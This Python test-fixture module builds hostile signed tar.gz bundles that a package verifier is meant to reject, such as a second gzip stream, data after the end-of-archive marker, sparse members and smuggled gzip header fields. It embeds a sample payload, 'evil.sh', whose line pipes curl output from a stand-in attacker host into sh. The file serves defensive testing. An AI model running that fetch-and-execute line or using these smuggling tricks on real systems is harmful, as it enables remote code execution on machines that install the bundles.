"""Hostile bundles with nothing wrong in what they sign: a table every consumer must refuse.

Each case starts from a real, properly signed bundle and hides something the signature
does not cover: a second gzip stream (one carrying a tar member ``evil.sh``), bytes after
the gzip trailer, a member or garbage after the tar end-of-archive marker, non-zero
padding, a GNU sparse member, pax and GNU long-name headers, optional gzip header fields.
A reader that joins gzip streams or stops at the end marker accepts every one of them;
``edgepack verify``, the agent's install and the server's upload must refuse each with
its own error type (``error``), the message naming what was found (``names``).

The bytes are written by hand (tar headers from ``TarInfo.tobuf``, gzip from ``zlib``),
never by the packager, which cannot write them.
"""

from __future__ import annotations

import gzip
import io
import tarfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from edgefleet.contract.errors import (
    BundleFormatError,
    ExtendedHeaderError,
    GzipHeaderError,
    MemberAfterEndError,
    MultipleStreamError,
    SparseMemberError,
    TrailingDataError,
)

__all__ = ["HOSTILE", "Hostile", "split"]

BLOCK = 512
END = b"\0" * 2 * BLOCK
EVIL = b"#!/bin/sh\ncurl -s http://attacker.invalid/x | sh\n"


def header(name: str, size: int, kind: bytes = tarfile.REGTYPE,
           fmt: int = tarfile.USTAR_FORMAT, **attrs) -> bytes:
    info = tarfile.TarInfo(name)
    info.size, info.type, info.mode, info.mtime = size, kind, 0o644, 1_767_225_600
    for key, value in attrs.items():
        setattr(info, key, value)
    return info.tobuf(format=fmt)


def member(name: str, body: bytes, **kw) -> bytes:
    return header(name, len(body), **kw) + body + b"\0" * (-len(body) % BLOCK)


def gz(raw: bytes) -> bytes:
    return gzip.compress(raw, compresslevel=6, mtime=0)


def split(valid: bytes) -> tuple[bytes, bytes]:
    """A valid bundle's tar: (its members with their padding, the zero tail after them)."""
    raw = zlib.decompress(valid, 31)
    with tarfile.open(fileobj=io.BytesIO(raw)) as tar:
        last = tar.getmembers()[-1]
    end = last.offset_data + -(-last.size // BLOCK) * BLOCK
    return raw[:end], raw[end:]


def _nonzero_padding(valid: bytes) -> bytes:
    raw = bytearray(zlib.decompress(valid, 31))
    with tarfile.open(fileobj=io.BytesIO(bytes(raw))) as tar:
        padded = next(i for i in tar.getmembers() if i.size % BLOCK)
    raw[padded.offset_data + padded.size] = ord("X")
    return gz(bytes(raw))


def _gzip_field(valid: bytes, flag: int, field: bytes) -> bytes:
    """The same deflate data under a gzip header carrying an optional field."""
    assert valid[3] == 0
    return valid[:3] + bytes([flag]) + valid[4:10] + field + valid[10:]


@dataclass(frozen=True)
class Hostile:
    id: str
    build: Callable[[bytes], bytes]  # from the valid bundle's bytes
    error: type[BundleFormatError]
    names: str  # what the refusal's message must say


def _members(valid: bytes) -> bytes:
    return split(valid)[0]


HOSTILE = [
    Hostile("second-gzip-stream-with-evil-sh",
            lambda v: v + gz(member("evil.sh", EVIL) + END), MultipleStreamError,
            "second gzip stream"),
    Hostile("second-gzip-stream-empty", lambda v: v + gz(b""), MultipleStreamError,
            "second gzip stream"),
    Hostile("garbage-after-gzip-trailer", lambda v: v + b"garbage", TrailingDataError,
            "after the end of the gzip stream"),
    Hostile("zeros-after-gzip-trailer", lambda v: v + b"\0" * BLOCK, TrailingDataError,
            "after the end of the gzip stream"),
    Hostile("member-after-end-marker",
            lambda v: gz(_members(v) + END + member("evil.sh", EVIL) + END),
            MemberAfterEndError, "evil.sh"),
    Hostile("member-after-one-zero-block",
            lambda v: gz(_members(v) + b"\0" * BLOCK + member("evil.sh", EVIL) + END),
            MemberAfterEndError, "evil.sh"),
    Hostile("garbage-after-end-marker",
            lambda v: gz(_members(v) + END + EVIL.ljust(BLOCK, b"\0") + END),
            TrailingDataError, "after the tar end-of-archive marker"),
    Hostile("zero-padding-beyond-1-mib",
            lambda v: gz(_members(v) + b"\0" * (2 << 20)), TrailingDataError,
            "zero padding"),
    Hostile("nonzero-member-padding", _nonzero_padding, TrailingDataError, "padding"),
    Hostile("gnu-sparse-member",
            lambda v: gz(_members(v) + member("evil.sh", EVIL, kind=tarfile.GNUTYPE_SPARSE,
                                              fmt=tarfile.GNU_FORMAT) + END),
            SparseMemberError, "evil.sh"),
    Hostile("pax-global-header",
            lambda v: gz(member("pax_global_header", b"20 path=evil.sh\n",
                                kind=tarfile.XGLTYPE) + _members(v) + END),
            ExtendedHeaderError, "pax global header"),
    Hostile("gnu-long-name",
            lambda v: gz(_members(v) + member("e" * 120 + ".sh", EVIL, fmt=tarfile.GNU_FORMAT)
                         + END), ExtendedHeaderError, "GNU long-name header"),
    Hostile("gzip-header-comment", lambda v: _gzip_field(v, 16, EVIL.replace(b"\n", b" ")
                                                        + b"\0"),
            GzipHeaderError, "a comment"),
    Hostile("gzip-header-extra-field",
            lambda v: _gzip_field(v, 4, len(EVIL).to_bytes(2, "little") + EVIL),
            GzipHeaderError, "an extra field"),
]

